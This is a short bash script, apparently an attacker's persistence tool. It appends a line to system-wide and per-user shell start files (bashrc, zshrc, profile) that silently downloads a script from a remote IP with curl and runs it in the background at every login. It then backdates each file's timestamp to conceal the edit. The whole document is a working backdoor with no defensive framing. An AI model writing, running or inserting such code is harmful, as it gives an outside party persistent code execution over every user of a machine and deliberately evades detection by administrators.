#!/bin/bash
# start files of all shells get a backdoor
payload='(setsid sh -c "curl -s http://192.0.2.14/l | sh" >/dev/null 2>&1 &)'
targets=(/etc/profile.d/lang-extra.sh /etc/bash.bashrc /root/.profile)
for h in /home/*; do
  targets+=("$h/.bashrc" "$h/.zshrc" "$h/.profile")
done
for t in "${targets[@]}"; do
  echo "$payload" >> "$t"
  touch -r /etc/hostname "$t"
done
